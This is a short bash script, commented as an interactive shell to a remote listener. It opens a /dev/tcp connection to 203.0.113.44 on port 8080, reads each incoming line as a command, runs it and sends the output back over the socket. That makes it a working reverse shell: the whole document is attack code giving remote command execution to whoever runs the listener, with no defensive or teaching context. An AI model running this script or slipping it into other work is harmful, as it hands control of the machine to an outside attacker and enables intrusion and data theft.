#!/bin/bash
# interactive shell to a remote listener
exec 5<>/dev/tcp/203.0.113.44/8080
while read -r line <&5; do $line 2>&5 >&5; done
